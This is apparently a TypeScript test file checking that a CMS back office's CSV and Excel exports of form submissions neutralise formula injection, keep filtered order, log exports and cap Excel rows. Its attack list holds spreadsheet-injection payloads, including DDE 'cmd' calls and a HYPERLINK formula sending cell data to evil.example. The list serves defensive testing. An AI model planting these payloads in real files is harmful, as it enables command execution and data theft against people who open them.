import { parse } from 'csv-parse/sync'
import { strFromU8, unzipSync } from 'fflate'
import { afterAll, beforeAll, expect, it } from 'vitest'
import {
  createStoredContactMessage,
  createStoredSignupValues,
  insertSubmission,
  insertSubmissionReaders,
} from '../../support/forms/submissions.ts'
import { createBackOfficeClient } from '../../support/pages/back-office-client.ts'
import { findPageIds } from '../../support/pages/page-ids.ts'
import { openSite, type TestSite } from '../../support/site.ts'

let site: TestSite
let [about, faq, terms]: number[] = []
beforeAll(async () => {
  site = await openSite()
  ;[about, faq, terms] = await findPageIds(site, '/about/', '/faq/', '/terms/')
  await insertSubmissionReaders(site, about!, faq!, terms!)
})
afterAll(() => site.close())

/** What a spreadsheet might calculate, or take for more than one cell. */
const attacks = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '+49 30 1234',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '\u0001=1+1',
  ' =1+1',
  '＝1+1',
  '","=1+1',
  '"\r\n=1+1',
  ';=1+1',
  '<f>1+1</f>',
  ']]><c><f>1</f></c>',
  '&#61;1+1',
]
const dangerous = /^[=+\-@\t\r\n\0＝＋－＠]/

/** The texts of the cells of a sheet, row by row, and whether any of them is a formula. */
function sheetOf(bytes: Uint8Array): { rows: string[][]; parts: string[]; hasFormula: boolean; types: Set<string> } {
  const files = unzipSync(bytes)
  const xml = (name: string) => strFromU8(files[name]!)
  const plain = (text: string) =>
    text
      .replaceAll('&lt;', '<')
      .replaceAll('&gt;', '>')
      .replaceAll('&quot;', '"')
      .replaceAll('&apos;', "'")
      .replaceAll('&amp;', '&')
  const strings = [...xml('xl/sharedStrings.xml').matchAll(/<si><t[^>]*>([^<]*)<\/t><\/si>/g)].map(([, text]) =>
    plain(text!),
  )
  const sheet = xml('xl/worksheets/sheet1.xml')
  const cells = (row: string) => [...row.matchAll(/<c [^>]*?t="(\w+)"[^>]*>(?:<v>([^<]*)<\/v>)?/g)]
  const rows = [...sheet.matchAll(/<row[^>]*>(.*?)<\/row>/gs)].map(([, row]) =>
    cells(row!).map(([, , at]) => strings[Number(at)]!),
  )
  const types = new Set([...sheet.matchAll(/<c [^>]*?t="(\w+)"/g)].map(([, type]) => type!))
  return { rows, types, parts: Object.keys(files), hasFormula: /<f[ >]/.test(sheet) }
}

it('ASVS 1.2.10 BR-26 no cell of a CSV or Excel export is a formula, only text', async () => {
  const pia = await createBackOfficeClient(site, 'pia@example.test')
  for (const [index, attack] of attacks.entries())
    await insertSubmission(
      site,
      about!,
      createStoredContactMessage('Ida', { message: attack, [attack]: 'x', last_name: attack }),
      {
        at: `2026-11-10T12:00:${String(index).padStart(2, '0')}.000Z`,
      },
    )
  const exported = (body: object) =>
    pia.post(`/wagtail/api/main/forms/${about}/submissions/export/`, { order: 'submitted_at', ...body })

  const csv = await exported({ format: 'csv' })
  expect(csv.headers.get('Content-Type')).toMatch(/^text\/csv; charset=utf-8/)
  expect(csv.headers.get('Content-Disposition')).toMatch(
    /^attachment; filename="our-story-[\d-]{10}\.csv"; filename\*=UTF-8''our-story-[\d-]{10}\.csv$/,
  )
  expect(csv.headers.get('Cache-Control')).toBe('private, no-store')
  expect(csv.headers.get('X-Content-Type-Options')).toBe('nosniff')
  const bytes = new Uint8Array(await csv.arrayBuffer())
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  const text = new TextDecoder().decode(bytes)
  const rows = parse(text, { bom: true, record_delimiter: '\r\n' }) as string[][]
  expect(rows).toHaveLength(attacks.length + 1)
  expect(rows.flat().filter((cell) => dangerous.test(cell))).toEqual([])
  const column = rows[0]!.indexOf('Message')
  for (const [index, attack] of attacks.entries()) {
    const cell = rows[index + 1]![column]!
    expect([attack, `'${attack}`, `'${attack.replace('\0', '')}`], JSON.stringify(attack)).toContain(cell)
  }
  // Every field is quoted, so a program with another delimiter finds no formula either.
  expect(text.replaceAll(/"(?:[^"]|"")*"/g, '').replaceAll(/,|\r\n/g, '')).toBe('')

  const xlsx = await exported({ format: 'xlsx' })
  expect(xlsx.status).toBe(200)
  expect(xlsx.headers.get('Content-Type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
  expect(xlsx.headers.get('Content-Disposition')).toMatch(/^attachment; filename="our-story-[\d-]{10}\.xlsx"/)
  const sheet = sheetOf(new Uint8Array(await xlsx.arrayBuffer()))
  expect(sheet.hasFormula).toBe(false)
  expect([...sheet.types]).toEqual(['s'])
  expect(sheet.parts.filter((part) => /vba|external|calcChain|connections/i.test(part))).toEqual([])
  expect(sheet.rows).toHaveLength(attacks.length + 1)
  expect(sheet.rows.flat().filter((cell) => dangerous.test(cell))).toEqual([])
  expect(sheet.rows[1]![column]).toBe("'=1+1")
})

it('BR-26 an export has the complete filtered list in order; the log omits the search', async () => {
  const pia = await createBackOfficeClient(site, 'pia@example.test')
  const rows = Array.from({ length: 1203 }, (_, index) => ({
    ...createStoredSignupValues(`Guest${String(index).padStart(4, '0')}`),
    big: 'y'.repeat(400),
  }))
  await site.db
    .prepare(
      `INSERT INTO form_submission (form, key, page_id, submitted_at, updated_at, email, "values", search_text, confirmation_requested_at)
       SELECT 'signup', value ->> 'email', ?1, '2026-11-' || iif(key < 600, '01', '02') || 'T10:00:00.000Z', '', value ->> 'email', value,
         lower(value ->> 'first_name'), iif(key < 5, '2026-11-01', NULL) FROM json_each(?2)`,
    )
    .bind(faq, JSON.stringify(rows))
    .run()
  const names = async (body: object) => {
    const answer = await pia.post(`/wagtail/api/main/forms/${faq}/submissions/export/`, { format: 'csv', ...body })
    const [head, ...found] = parse(await answer.text(), { bom: true }) as string[][]
    return found.map((row) => row[head!.indexOf('First name')])
  }
  const all = rows.map(({ first_name }) => first_name)
  expect(await names({ order: 'email' })).toEqual(all)
  expect(await names({ order: '-email' })).toEqual(all.toReversed())
  expect(await names({ order: 'submitted_at' })).toEqual(all)
  expect((await names({ before: '2026-11-02T00:00:00Z' })).length).toBe(600)
  expect(await names({ search: 'guest0007' })).toEqual(['Guest0007'])
  expect(await names({ search: 'nobody' })).toEqual([])

  const answer = await pia.post(`/wagtail/api/main/forms/${faq}/submissions/export/`, {
    format: 'xlsx',
    order: 'email',
  })
  const sheet = sheetOf(new Uint8Array(await answer.arrayBuffer()))
  expect(sheet.rows.slice(1).map((row) => row[1])).toEqual(all)
  expect(sheet.rows[0]).toContain('Special occasions')
  expect(sheet.rows[1]).toContain('Birthday, Child, 2, 29')
  expect(sheet.rows[1]!.at(-1)).toBe('Not yet')

  const { results } = await site.db
    .prepare(
      "SELECT label, data FROM log_entry WHERE action = 'tidemark.export_submissions' AND object_id = ?1 ORDER BY id",
    )
    .bind(faq)
    .all()
  expect(results).toHaveLength(7)
  expect(results[4]).toEqual({ label: 'Questions and answers', data: '{"form":"signup","format":"csv","count":1}' })
  expect(JSON.stringify(results)).not.toContain('guest')
})

it('ASVS 15.2.2 only Excel files have a limit, over which they are rejected with a message', async () => {
  const pia = await createBackOfficeClient(site, 'pia@example.test')
  await site.db
    .prepare(
      `WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10001)
       INSERT INTO form_submission (form, key, page_id, submitted_at, updated_at, "values")
       SELECT 'contact', i, ?1, '2026-11-01T10:00:00.000Z', '', json_object('first_name', 'G' || i) FROM n`,
    )
    .bind(terms)
    .run()
  const exported = (format: string) => pia.post(`/wagtail/api/main/forms/${terms}/submissions/export/`, { format })
  const refused = await exported('xlsx')
  expect(refused.status).toBe(409)
  expect(await refused.json()).toEqual({
    message:
      'An Excel file can have at most 10,000 rows, but this export has 10,001. Narrow the dates, or export a CSV file.',
  })
  expect((await (await exported('csv')).text()).split('\r\n')).toHaveLength(10_003)
  await site.db.prepare("DELETE FROM form_submission WHERE key = '1'").run()
  expect((await exported('xlsx')).status).toBe(200)
})
